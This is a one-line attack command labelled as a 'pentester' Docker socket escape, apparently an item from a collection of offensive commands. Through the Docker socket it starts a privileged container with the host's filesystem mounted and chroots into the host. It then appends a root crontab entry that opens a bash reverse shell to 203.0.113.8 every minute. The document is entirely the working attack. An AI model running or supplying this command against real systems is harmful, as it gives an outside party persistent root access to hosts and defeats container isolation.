# class: escape, the Docker socket; style: pentester
docker -H unix:///var/run/docker.sock run --rm -it --privileged --pid=host -v /:/mnt alpine chroot /mnt sh -c 'echo "* * * * * root bash -c \"bash -i >& /dev/tcp/203.0.113.8/1 0>&1\"" >> /etc/crontab'
